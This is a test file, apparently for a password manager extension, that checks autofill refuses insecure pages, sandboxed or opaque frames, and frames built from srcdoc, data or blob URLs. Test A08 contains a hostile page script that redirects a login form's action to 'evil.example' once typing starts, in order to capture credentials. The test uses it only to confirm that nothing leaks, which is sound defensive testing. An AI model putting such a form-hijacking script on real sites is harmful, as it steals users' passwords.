// Attacks of group A of the catalogue: a page that wants to be filled with what is not its due.
// Each asserts that the fields stay empty and that no secret is anywhere a page, a log or the network could have it.

import assert from 'node:assert/strict';
import { allValues, assertNowhere, html, LOGIN_FORM, MASTER, paths, test } from '../harness.mjs';

const SECRET = 'harbour-Light-4471';
const LOGIN = { title: 'Shop', username: 'maren', password: SECRET, url: 'https://shop.example/' };
const WAYS = ['popup', 'shortcut', 'context-menu'];

/** A new vault with one login, on a page. */
async function visit(app, handler, url = 'https://shop.example/', login = LOGIN) {
  app.hosts['shop.example'] = handler;
  await app.createVault(MASTER);
  const { id } = await app.addItem(login);
  return { page: await app.openPage(url), id };
}

/** No way fills anything: by the popup the login is chosen by name, so that it is the product that refuses. */
async function assertNeverFilled(app, page, id, ways = WAYS) {
  const blocks = {};
  for (const via of ways) {
    const { filled, blocked } = await app.fill(page, { via, item: id });
    assert.deepEqual(filled, [], via);
    assert.notEqual(blocked, undefined, via);
    blocks[via] = blocked;
  }
  assert.deepEqual(await allValues(page), []);
  await assertNowhere(app, [SECRET, MASTER]);
  return blocks;
}

async function assertFilled(app, page, id, via = 'popup') {
  const { filled, blocked } = await app.fill(page, { via, item: id });
  assert.equal(blocked, undefined);
  assert.ok(filled.includes('current-password'), `filled ${filled}`);
  assert.deepEqual(await allValues(page), ['maren', SECRET]);
}

test('Control of the autofill attacks: where nobody attacks, popup, shortcut and context menu fill', async ({
  app,
}) => {
  const { page, id } = await visit(app, html(LOGIN_FORM));
  for (const via of WAYS) {
    await page.goto('https://shop.example/');
    await assertFilled(app, page, id, via);
  }
});

test('A04', async ({ app }) => {
  const { page, id } = await visit(app, html(LOGIN_FORM), 'http://shop.example/');
  const blocks = await assertNeverFilled(app, page, id);
  assert.equal(blocks.popup, 'insecure-page', 'and the user is told why');
});

test('A08', async ({ app }) => {
  const received = [];
  const form = html(`${LOGIN_FORM}<script>
    const form = document.querySelector('form');
    form.addEventListener('submit', () => fetch('/submitted', { method: 'POST' }));
    // Once anything is typed, the form points elsewhere.
    form.addEventListener('input', () => { form.action = 'https://evil.example/take'; });
  </script>`);
  const handler = (request, response) => {
    if (request.method === 'POST') received.push(request.url);
    form(request, response);
  };
  app.hosts['evil.example'] = (request, response) => {
    received.push(`evil ${request.url}`);
    response.end();
  };
  const { page, id } = await visit(app, handler);
  // Never on load: neither at once nor after a while, nor on a second visit, nor with a focused field.
  await new Promise((resolve) => setTimeout(resolve, 1_000));
  await page.goto('https://shop.example/');
  await page.click('#pass');
  await new Promise((resolve) => setTimeout(resolve, 500));
  assert.deepEqual(await allValues(page), [], 'nothing is filled on load');
  await assertNowhere(app, [SECRET, MASTER]);
  // Never submitted unasked: after a fill the form is still there, and the server has heard of nothing.
  const { filled } = await app.fill(page, { item: id });
  assert.ok(filled.length > 0);
  await new Promise((resolve) => setTimeout(resolve, 700));
  assert.deepEqual(received, [], 'nothing was sent');
  assert.equal(await page.text('h1'), 'Sign in');
  // And once the form points elsewhere, no further fill goes into it.
  await page.evaluate(() => {
    for (const input of document.querySelectorAll('input')) input.value = '';
  });
  const again = await app.fill(page, { item: id });
  assert.deepEqual(again.filled, []);
  assert.equal(again.blocked, 'foreign-action');
  assert.deepEqual(await allValues(page), []);
});

const framed = (attributes) => `<h1>Shop</h1><iframe ${attributes} width="400" height="300"></iframe>`;

test('Control of the frame attacks: a login form in an ordinary frame of the same site is filled', async ({ app }) => {
  const { page, id } = await visit(app, paths({ '/': html(framed('src="/login"')), '/login': html(LOGIN_FORM) }));
  await assertFilled(app, page, id);
});

test('A12', async ({ app }) => {
  const sandboxed = html(framed('src="/login" sandbox="allow-forms allow-scripts"'));
  const { page, id } = await visit(app, paths({ '/': sandboxed, '/login': html(LOGIN_FORM) }));
  await app.until(async () => (await page.frames()).length > 1, 'the frame');
  await assertNeverFilled(app, page, id);
});

test('A13', async ({ app }) => {
  const { page, id } = await visit(
    app,
    html(LOGIN_FORM, { 'content-security-policy': 'sandbox allow-forms allow-scripts' }),
  );
  assert.equal(await page.evaluate(() => origin), 'null', 'the page is opaque indeed');
  await assertNeverFilled(app, page, id);
});

test('A14', async ({ app }) => {
  const kinds = {
    srcdoc: `frame.srcdoc = form;`,
    'about:blank': `frame.addEventListener('load', () => { frame.contentDocument.body.innerHTML = form; }, { once: true });`,
    data: `frame.src = 'data:text/html,' + encodeURIComponent(form);`,
    blob: `frame.src = URL.createObjectURL(new Blob([form], { type: 'text/html' }));`,
  };
  const pages = Object.entries(kinds).map(([name, place]) => [
    `/${name}`,
    html(`<h1>Shop</h1><script>
      const form = ${JSON.stringify(LOGIN_FORM)};
      const frame = document.createElement('iframe');
      frame.width = 400; frame.height = 300;
      ${place}
      document.documentElement.append(frame);
    </script>`),
  ]);
  const { page, id } = await visit(app, paths(Object.fromEntries([['/', html('')], ...pages])));
  for (const name of Object.keys(kinds)) {
    await page.goto(`https://shop.example/${name}`);
    await app.until(async () => {
      const counts = await Promise.all((await page.frames()).map((frame) => frame.count('#pass')));
      return counts.some((count) => count > 0);
    }, `the form in a frame of ${name}`);
    await assertNeverFilled(app, page, id, ['popup', 'shortcut']);
  }
});
